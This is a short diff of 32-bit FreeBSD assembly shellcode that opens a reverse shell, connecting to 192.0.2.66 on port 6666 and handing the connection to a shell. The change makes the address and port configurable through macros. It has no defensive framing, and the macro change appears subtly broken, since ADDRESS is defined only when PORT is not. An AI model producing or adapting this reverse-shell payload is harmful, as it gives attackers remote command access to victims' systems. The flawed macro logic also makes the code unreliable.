@@ -1,7 +1,11 @@
 ; FreeBSD, 32 bit: connects to 192.0.2.66 port 6666 and hands the connection to a shell.
 bits 32
-        push dword 0x420200c0   ; 192.0.2.66
-        push dword 0x0a1a0210   ; length, family, port
+%ifndef PORT
+%define PORT 6666
+%define ADDRESS 0x420200c0     ; 192.0.2.66
+%endif
+        push dword ADDRESS
+        push dword 0x0210 | ((PORT & 255) << 24) | ((PORT >> 8) << 16) ; length, family, port
         mov edi, esp
         xor eax, eax
         push eax
